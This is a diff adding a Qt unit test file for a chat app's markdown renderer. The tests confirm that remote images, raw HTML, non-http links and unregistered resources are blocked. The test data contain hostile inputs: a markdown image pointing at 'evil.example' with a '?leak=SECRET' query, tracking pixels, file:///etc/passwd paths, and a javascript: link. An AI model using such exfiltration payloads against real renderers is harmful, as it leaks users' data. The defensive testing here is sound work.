@@ -1,0 +1,166 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// SPDX-FileCopyrightText: 2026 The Sotto developers
+#include "core/chat/MarkdownRenderer.h"
+
+#include <QGuiApplication>
+#include <QImage>
+#include <QPainter>
+#include <QTest>
+#include <QTextBlock>
+#include <QTextFragment>
+#include <QTextFrame>
+#include <QTextTable>
+
+using namespace sotto;
+
+namespace {
+
+int countImages(const QTextDocument &document)
+{
+    int images = 0;
+    for (QTextBlock block = document.begin(); block.isValid(); block = block.next())
+        for (auto it = block.begin(); !it.atEnd(); ++it)
+            images += it.fragment().charFormat().isImageFormat() ? 1 : 0;
+    return images;
+}
+
+QStringList anchors(const QTextDocument &document)
+{
+    QStringList hrefs;
+    for (QTextBlock block = document.begin(); block.isValid(); block = block.next())
+        for (auto it = block.begin(); !it.atEnd(); ++it)
+            if (it.fragment().charFormat().isAnchor())
+                hrefs << it.fragment().charFormat().anchorHref();
+    return hrefs;
+}
+
+/// Lays out and paints the document, which is when a QTextDocument loads images.
+void paint(QTextDocument &document)
+{
+    document.setTextWidth(600);
+    QImage canvas(600, 800, QImage::Format_ARGB32);
+    QPainter painter(&canvas);
+    document.drawContents(&painter);
+}
+
+} // namespace
+
+class TestMarkdownRenderer final : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void rendersTheGitHubDialect()
+    {
+        SafeTextDocument document;
+        MarkdownRenderer::render(&document,
+                                 QStringLiteral("# Title\n\n- one\n- two\n\n> quoted\n\n"
+                                                "| a | b |\n|---|---|\n| 1 | 2 |\n\n**bold** and `code`\n"));
+        QCOMPARE(document.begin().blockFormat().headingLevel(), 1);
+        bool hasTable = false;
+        for (QTextFrame *frame : document.rootFrame()->childFrames())
+            hasTable = hasTable || qobject_cast<QTextTable *>(frame);
+        QVERIFY(hasTable);
+        const QString text = document.toPlainText();
+        for (const char *part : {"Title", "one", "two", "quoted", "bold", "code"})
+            QVERIFY2(text.contains(QLatin1String(part)), part);
+    }
+
+    void remoteImagesAreNeverLoaded_data()
+    {
+        QTest::addColumn<QString>("markdown");
+        QTest::addColumn<QString>("url");
+        QTest::addRow("https") << QStringLiteral("Here: ![chart](https://evil.example/c.png?leak=SECRET)")
+                               << QStringLiteral("https://evil.example/c.png?leak=SECRET");
+        QTest::addRow("http") << QStringLiteral("![](http://10.0.0.5/pixel.gif)")
+                              << QStringLiteral("http://10.0.0.5/pixel.gif");
+        QTest::addRow("file") << QStringLiteral("![x](file:///etc/hostname)")
+                              << QStringLiteral("file:///etc/hostname");
+        QTest::addRow("relative") << QStringLiteral("![x](../secrets.png)")
+                                  << QStringLiteral("../secrets.png");
+        QTest::addRow("reference") << QStringLiteral("![logo][l]\n\n[l]: https://track.example/l.png")
+                                   << QStringLiteral("https://track.example/l.png");
+    }
+
+    void remoteImagesAreNeverLoaded()
+    {
+        QFETCH(QString, markdown);
+        QFETCH(QString, url);
+        SafeTextDocument document;
+        const auto outline = MarkdownRenderer::render(&document, markdown);
+        QCOMPARE(outline.blockedImages, QStringList{url});
+        QCOMPARE(countImages(document), 0);
+        QVERIFY2(document.toPlainText().contains(url), qPrintable(document.toPlainText()));
+        paint(document);
+        QCOMPARE(document.refusedResourceCount(), 0); // nothing was even asked for
+    }
+
+    void rawHtmlIsNotInterpreted()
+    {
+        SafeTextDocument document;
+        const auto outline = MarkdownRenderer::render(
+            &document,
+            QStringLiteral("before <img src=\"https://evil.example/x.png\"> after\n\n"
+                           "<iframe src=\"https://evil.example/\"></iframe>\n\n<b>not bold</b>"));
+        QVERIFY(outline.blockedImages.isEmpty());
+        QCOMPARE(countImages(document), 0);
+        QVERIFY(anchors(document).isEmpty());
+        paint(document);
+        QCOMPARE(document.refusedResourceCount(), 0);
+        QVERIFY(document.toPlainText().contains(QStringLiteral("before")));
+        QVERIFY(document.toPlainText().contains(QStringLiteral("after")));
+    }
+
+    void onlyHttpLinksStayLinks_data()
+    {
+        QTest::addColumn<QString>("markdown");
+        QTest::addColumn<QStringList>("kept");
+        QTest::addRow("https") << QStringLiteral("[site](https://example.org/a?b=c)")
+                               << QStringList{QStringLiteral("https://example.org/a?b=c")};
+        QTest::addRow("autolink") << QStringLiteral("Visit https://example.org/docs now")
+                                  << QStringList{QStringLiteral("https://example.org/docs")};
+        QTest::addRow("javascript") << QStringLiteral("[click](javascript:alert(1))") << QStringList();
+        QTest::addRow("file") << QStringLiteral("[open](file:///etc/passwd)") << QStringList();
+        QTest::addRow("mailto") << QStringLiteral("[mail](mailto:a@example.org)") << QStringList();
+        QTest::addRow("data") << QStringLiteral("[d](data:text/html,hi)") << QStringList();
+        QTest::addRow("mixed") << QStringLiteral("[a](http://a.example/) and [b](ftp://b.example/)")
+                               << QStringList{QStringLiteral("http://a.example/")};
+    }
+
+    void onlyHttpLinksStayLinks()
+    {
+        QFETCH(QString, markdown);
+        QFETCH(QStringList, kept);
+        SafeTextDocument document;
+        const auto outline = MarkdownRenderer::render(&document, markdown);
+        QCOMPARE(outline.links, kept);
+        QCOMPARE(anchors(document), kept);
+    }
+
+    void codeBlocksAreCollectedForCopying()
+    {
+        SafeTextDocument document;
+        const auto outline = MarkdownRenderer::render(
+            &document,
+            QStringLiteral("Intro\n\n```python\nprint('hi')\nx = 1\n```\n\ntext\n\n```\nplain\n```\n"));
+        QCOMPARE(outline.codeBlocks,
+                 QStringList({QStringLiteral("print('hi')\nx = 1"), QStringLiteral("plain")}));
+    }
+
+    void onlyRegisteredResourcesLoad()
+    {
+        SafeTextDocument document;
+        QImage attachment(4, 4, QImage::Format_RGB32);
+        attachment.fill(Qt::red);
+        document.addResource(QTextDocument::ImageResource, QUrl(QStringLiteral("attachment:1")), attachment);
+        QVERIFY(
+            document.resource(QTextDocument::ImageResource, QUrl(QStringLiteral("attachment:1"))).isValid());
+        QVERIFY(!document.resource(QTextDocument::ImageResource, QUrl(QStringLiteral("file:///etc/hostname")))
+                     .isValid());
+        QVERIFY(!document.resource(QTextDocument::ImageResource, QUrl(QStringLiteral(":/icons/sotto.svg")))
+                     .isValid());
+        QCOMPARE(document.refusedResourceCount(), 2);
+    }
+};
+
+QTEST_MAIN(TestMarkdownRenderer)
+#include "TestMarkdownRenderer.moc"
